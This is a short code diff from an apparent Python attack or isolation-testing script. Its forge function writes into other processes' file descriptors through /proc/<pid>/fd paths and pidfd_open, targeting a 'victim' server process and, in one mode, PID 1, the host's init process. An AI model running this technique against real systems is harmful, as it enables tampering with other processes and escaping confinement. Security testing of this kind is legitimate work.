@@ -15,7 +15,7 @@ def write(path_or_fd):
 def forge(server, stream_fd):
     for fd in {*range(3, 64), stream_fd}:  # the stream has whatever number was free where it was made
         write(fd)
-    for victim in (server, 1):
+    for victim in (server, 1) if parameters["sealed"] else (server,):  # unconfined, 1 is the machine's own
         write(f"/proc/{victim}/fd/{stream_fd}")
         try:
             handle = os.pidfd_open(victim)
